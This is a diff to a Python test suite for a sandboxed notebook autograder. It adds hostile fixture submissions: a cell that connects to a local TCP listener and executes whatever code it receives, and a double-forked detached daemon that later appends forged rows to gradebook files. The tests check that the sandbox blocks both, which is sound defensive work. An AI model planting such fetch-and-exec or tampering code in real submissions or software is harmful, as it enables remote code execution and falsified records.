@@ -2,13 +2,16 @@
 sandbox, in one batch, through the command line. Each gets the score and the statuses it earned
 (expected.json), no cheat gains a point, nothing leaks out, and the batch completes."""
 
+import contextlib
 import csv
 import dataclasses
 import hashlib
 import json
 import os
+import socket
 import subprocess
 import sys
+import threading
 import time
 from pathlib import Path
 
@@ -253,7 +256,74 @@ def test_student_code_draws_the_random_numbers_the_notebook_would(tmp_path):
     assert "preflight: the solution scores 1 / 1" in done.stderr
 
 
-def hostile_folder(root: Path) -> dict[str, float]:
+LEAK = """
+import socket
+
+try:
+    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as leak:
+        exec(b"".join(iter(lambda: leak.recv(65536), b"")).decode())
+except OSError:
+    pass
+"""
+DAEMON = """
+import glob
+import os
+import time
+
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        time.sleep(5)
+        for path in glob.glob(ROOT + "/*/gradebook.csv"):
+            try:
+                with open(path, "a") as handle:
+                    handle.write("daemon,daemon,6,6\\n")
+            except OSError:
+                pass
+        os._exit(0)
+    os._exit(0)
+"""
+
+
+@contextlib.contextmanager
+def leaking_listener():
+    """A TCP listener on 127.0.0.1 that hands the correct answers to whoever connects."""
+    notebook = json.loads((SUBMISSIONS / "correct.ipynb").read_text())
+    answers = "\n".join(
+        "".join(c["source"]) for c in notebook["cells"] if c.get("id", "").startswith("sol-")
+    ).encode()
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.5)
+    stop = threading.Event()
+
+    def serve():
+        while not stop.is_set():
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                continue
+            with connection:
+                connection.sendall(answers)
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    try:
+        yield server.getsockname()[1]
+    finally:
+        stop.set()
+        thread.join()
+        server.close()
+
+
+def with_cell(path: Path, source: str) -> str:
+    """The notebook at ``path`` with one more code cell at its end."""
+    notebook = json.loads(path.read_text())
+    cell = {"cell_type": "code", "id": "extra", "metadata": {}, "source": source}
+    notebook["cells"].append(dict(cell, outputs=[], execution_count=None))
+    return json.dumps(notebook)
+
+
+def hostile_folder(root: Path, port: int) -> dict[str, float]:
     """A folder of hostile entries the adversarial fixtures do not hold; each name's due score
     (None: a row that must say why it was refused)."""
     correct, blank = SUBMISSIONS / "correct.ipynb", SUBMISSIONS / "blank.ipynb"
@@ -285,16 +355,20 @@ def hostile_folder(root: Path) -> dict[str, float]:
     (subs / "deep.ipynb").write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
     due["deep"] = 0
     (subs / "notes.txt").write_text("not a submission")
+    (subs / "tcp.ipynb").write_text(with_cell(blank, LEAK.replace("PORT", str(port))))
+    (subs / "daemon.ipynb").write_text(with_cell(blank, DAEMON.replace("ROOT", repr(str(root)))))
+    due.update({"tcp": 0, "daemon": 0})
     return due
 
 
 def test_a_fresh_batch_of_hostile_entries(tmp_path):
     """Links, hard links, special files, odd and reserved names, a deep notebook: every cheat
     gets 0, every honest copy full marks, every entry a row or a logged reason."""
-    due = hostile_folder(tmp_path)
     before = fingerprint()
     out = tmp_path / "out"
-    done = grade_cli(str(SOLUTION), str(tmp_path / "hostile"), "--out", str(out))
+    with leaking_listener() as port:
+        due = hostile_folder(tmp_path, port)
+        done = grade_cli(str(SOLUTION), str(tmp_path / "hostile"), "--out", str(out))
     assert done.returncode == 0, done.stderr[-3000:]
     rows = list(csv.DictReader(open(out / "gradebook.csv", encoding="utf-8")))
     by_name = {row["name"].removeprefix("'"): row for row in rows}
@@ -351,7 +425,8 @@ def test_an_ordinary_user_gets_the_same_sandbox(tmp_path_factory):
 
     root = Path(tempfile.mkdtemp(prefix="course-grader-user-"))
     root.chmod(0o755)
-    due = hostile_folder(root)
+    listener = contextlib.ExitStack()
+    due = hostile_folder(root, listener.enter_context(leaking_listener()))
     subprocess.run(["chown", "-R", "nobody", str(root)], check=True)
     before = fingerprint()
     for submissions, out in ((SUBMISSIONS, root / "out"), (root / "hostile", root / "out2")):
@@ -378,6 +453,7 @@ def test_an_ordinary_user_gets_the_same_sandbox(tmp_path_factory):
             break
         time.sleep(0.1)
     assert left == [], f"processes of the user are still running: {left}"
+    listener.close()
 
 
 def test_without_any_sandbox_the_grader_refuses_unless_told(monkeypatch, capsys):
